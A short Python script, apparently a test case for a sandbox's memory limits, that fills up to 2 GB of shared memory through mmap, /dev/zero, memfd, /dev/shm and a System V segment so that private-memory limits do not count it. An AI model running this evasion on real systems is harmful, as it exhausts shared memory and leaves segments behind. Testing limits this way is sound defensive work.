"""Takes up to 2 GB of shared memory, by every way that there is, since limits on private memory do not count it."""

import ctypes
import mmap
import os
import time

SIZE = 2**31
CREATE = 0o1000 | 0o600


def attempts():
    yield lambda: mmap.mmap(-1, SIZE)
    yield lambda: mmap.mmap(os.open("/dev/zero", os.O_RDWR), SIZE, mmap.MAP_SHARED)
    for make in (
        lambda: os.memfd_create("left-behind"),
        lambda: os.open("/dev/shm/left-behind", os.O_RDWR | os.O_CREAT),
    ):

        def shared(make=make):
            descriptor = make()
            os.ftruncate(descriptor, SIZE)
            return mmap.mmap(descriptor, SIZE)

        yield shared


def attack(*args, **kwargs):
    for attempt in attempts():
        try:
            memory = attempt()
        except (OSError, ValueError):
            continue
        for start in range(0, SIZE, 4096):
            memory[start] = 1
        print("filled", SIZE)
        break
    ctypes.CDLL(None).shmget(0, ctypes.c_size_t(SIZE), CREATE)
    time.sleep(1)
